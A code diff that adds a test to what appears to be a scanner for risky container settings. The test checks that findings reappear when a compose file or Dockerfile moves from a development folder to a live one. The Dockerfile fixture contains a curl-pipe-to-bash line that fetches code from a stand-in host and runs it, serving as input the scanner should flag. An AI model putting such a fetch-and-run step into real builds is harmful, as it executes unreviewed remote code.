@@ -135,6 +135,18 @@ describe('it is new', () => {
     expect(found).toContain('new DEP-PRIV compose.yaml:5');
   });
 
+  it.each([
+    ['compose.yaml', COMPOSE, 'DEP-PRIV'],
+    ['Dockerfile', 'FROM debian:13\nRUN curl -sS https://a.example/x | bash\nUSER 1\n', 'PS0023'],
+  ])('where a %s moves from a folder for development to another one', async (name, text, rule) => {
+    const found = await changed(
+      { [`dev/${name}`]: text },
+      { [`dev/${name}`]: undefined, [`live/${name}`]: text },
+      false,
+    );
+    expect(found.map((one) => one.split(':')[0])).toContain(`new ${rule} live/${name}`);
+  });
+
   it('where a service is renamed and publishes a port', async () => {
     const found = await changed(
       { 'compose.yaml': COMPOSE },
